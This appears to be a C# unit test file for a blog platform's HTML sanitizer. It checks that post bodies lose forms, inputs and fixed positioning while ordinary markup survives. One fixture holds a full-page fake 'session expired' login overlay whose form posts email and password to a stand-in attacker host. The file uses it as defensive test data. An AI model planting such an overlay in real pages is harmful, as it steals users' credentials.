using AngleSharp.Html.Parser;
using Folio.Features.Posts;

namespace Folio.Tests.Posts;

/// <summary>
/// What a post may hold (issue 18, item 12): an author can write anything a page shows, but not a
/// form that collects what readers type (a fake log-in on a trusted site) nor a box pinned over the
/// whole page. Embeds come through the editor's embed blocks, not through forms.
/// </summary>
public sealed class PostAllowListTests
{

    private static readonly string PhishingForm = """
        <div style="position: fixed; top: 0; left: 0; width: 100%; height: 100%; background: white; z-index: 9999">
          <h2>Your session has expired</h2>
          <form action="https://attacker.example/steal" method="post">
            <label for="e">Email</label> <input id="e" name="email" type="email">
            <input name="password" type="password" placeholder="Password">
            <select name="site"><option>demo</option></select>
            <textarea name="note"></textarea>
            <button type="submit" name="go">Log In</button>
          </form>
        </div>
        """;

    [Fact]
    public void A_fake_login_form_keeps_its_words_but_collects_nothing_and_covers_nothing()
    {
        var body = Parse(PostBodyRenderer.ToSafeHtml(PhishingForm, BodyFormat.Html));

        Assert.Empty(body.QuerySelectorAll("form, input, button, select, textarea, option"));
        Assert.Empty(body.QuerySelectorAll("[name]"));
        Assert.DoesNotContain("fixed", body.InnerHtml);
        Assert.Contains("Your session has expired", body.TextContent);
    }

    [Theory]
    [InlineData("sticky")]
    [InlineData("fixed")]
    [InlineData("absolute")]
    public void No_element_of_a_post_is_taken_out_of_the_page_flow(string position)
    {
        var body = Parse(PostBodyRenderer.ToSafeHtml($"""<p style="position: {position}; top: 0; color: red">Notice</p>""", BodyFormat.Html));

        Assert.DoesNotContain("position", body.InnerHtml);
        Assert.StartsWith("top: 0; color:", body.QuerySelector("p")!.GetAttribute("style"));
    }

    [Theory]
    [InlineData("<h2>Heading</h2><p>Some <strong>bold</strong> and <a href=\"https://example.com/\">a link</a>.</p>", "h2, strong, a[href]")]
    [InlineData("<table><thead><tr><th>A</th></tr></thead><tbody><tr><td colspan=\"2\">1</td></tr></tbody></table>", "table th, td[colspan]")]
    [InlineData("<figure><img src=\"/media/a.png\" alt=\"A cat\" width=\"480\"><figcaption>Cat</figcaption></figure>", "img[alt][width], figcaption")]
    [InlineData("<ol type=\"a\" start=\"3\"><li value=\"5\">Third</li></ol>", "ol[type][start], li[value]")]
    [InlineData("<details><summary>More</summary><p style=\"text-align: center\">Hidden</p></details>", "details summary, p[style]")]
    public void Ordinary_writing_comes_through_whole(string html, string selector)
    {
        var body = Parse(PostBodyRenderer.ToSafeHtml(html, BodyFormat.Html));

        Assert.Equal(selector.Split(',').Length, selector.Split(',').Count(part => body.QuerySelector(part.Trim()) is not null));
    }

    [Fact]
    public void A_Markdown_task_list_keeps_its_ticked_and_unticked_boxes()
    {
        var body = Parse(PostBodyRenderer.ToSafeHtml("- [x] Write the post\n- [ ] Publish it", BodyFormat.Markdown));

        var boxes = body.QuerySelectorAll("li input[type=checkbox][disabled]");
        Assert.Equal(2, boxes.Length);
        Assert.True(boxes[0].HasAttribute("checked"));
        Assert.False(boxes[1].HasAttribute("checked"));
    }

    [Fact]
    public void A_checkbox_that_could_be_ticked_is_not_a_task_list()
    {
        var body = Parse(PostBodyRenderer.ToSafeHtml("<ul><li><input type=\"checkbox\" name=\"agree\"> I agree</li></ul>", BodyFormat.Html));

        Assert.Empty(body.QuerySelectorAll("input"));
        Assert.Contains("I agree", body.TextContent);
    }

    private static AngleSharp.Dom.IElement Parse(string html) => new HtmlParser().ParseDocument($"<body>{html}</body>").Body!;
}
